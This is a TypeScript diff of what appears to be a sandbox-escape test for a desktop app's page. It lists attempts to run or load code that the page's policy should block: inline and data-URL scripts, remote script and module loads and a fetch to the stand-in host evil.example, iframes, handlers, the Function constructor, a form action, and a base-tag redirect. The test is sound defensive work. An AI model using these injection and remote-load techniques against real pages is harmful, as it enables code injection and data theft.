@@ -18,10 +18,16 @@ export interface DesktopPage {
   secret: string;
   session: Answered;
   readonly ask: (path: string) => Promise<Answered>;
-  readonly tryToBreakOut: () => Promise<readonly string[]>;
+  readonly tryToBreakOut: () => Promise<BreakOut>;
 }
 
-const page = globalThis as unknown as DesktopPage & { broken?: string };
+/** What came of the attempts, by name: which had an effect, and which threw at once. */
+export interface BreakOut {
+  readonly worked: readonly string[];
+  readonly threw: readonly string[];
+}
+
+const page = globalThis as unknown as DesktopPage & { broken?: string | undefined };
 const { desktop } = page;
 
 async function ask(path: string): Promise<Answered> {
@@ -39,14 +45,22 @@ function element(name: string, facts: object): void {
 const attempts: Readonly<Record<string, () => unknown>> = {
   inlineScript: () => element('script', { text: 'window.broken = "inline"' }),
   remoteScript: () => element('script', { src: 'https://evil.example/x.js' }),
+  remoteModule: () => import(/* @vite-ignore */ `https://evil.example/${'x.js'}`),
   dataScript: () => element('script', { src: 'data:text/javascript,window.broken="data"' }),
   frame: () => element('iframe', { src: 'https://evil.example/' }),
   frameWithText: () => element('iframe', { srcdoc: '<script>parent.broken="frame"</script>' }),
   handler: () => document.body.setAttribute('onclick', 'window.broken = "handler"'),
   click: () => document.body.click(),
-  evaluated: () => Reflect.construct(Function, ['window.broken = "function"']),
-  worker: () => new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))),
-  remoteFetch: () => fetch('https://evil.example/'),
+  evaluated: () => Reflect.apply(Reflect.construct(Function, ['window.broken = "function"']), null, []),
+  worker: () => {
+    const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])));
+    worker.addEventListener('message', () => (page.broken = 'worker'));
+  },
+  remoteFetch: async () => {
+    await fetch('https://evil.example/');
+    page.broken = 'fetch';
+  },
+  image: () => element('img', { src: 'https://evil.example/x.png' }),
   form: () => {
     const form = Object.assign(document.createElement('form'), { action: 'https://evil.example/' });
     document.body.append(form);
@@ -54,22 +68,29 @@ const attempts: Readonly<Record<string, () => unknown>> = {
   },
   base: () => {
     document.head.append(Object.assign(document.createElement('base'), { href: 'https://evil.example/' }));
+    if (document.baseURI.includes('evil')) page.broken = 'base';
   },
 };
 
-/** Which of the attempts threw; the rest went by without an effect, unless `broken` says otherwise. */
-async function breakOut(): Promise<readonly string[]> {
+async function breakOut(): Promise<BreakOut> {
+  const worked: string[] = [];
   const threw: string[] = [];
+  const take = () => {
+    if (page.broken !== undefined) worked.push(page.broken);
+    page.broken = undefined;
+  };
   for (const [name, attempt] of Object.entries(attempts)) {
     try {
       await attempt();
     } catch {
       threw.push(name);
     }
+    take();
   }
+  // What is loaded has its effect a little later.
   await new Promise((done) => setTimeout(done, 300));
-  const isMoved = document.baseURI.includes('evil');
-  return [...(page.broken === undefined ? [] : [page.broken]), ...(isMoved ? ['base'] : []), ...threw];
+  take();
+  return { worked, threw };
 }
 
 async function enter(): Promise<void> {
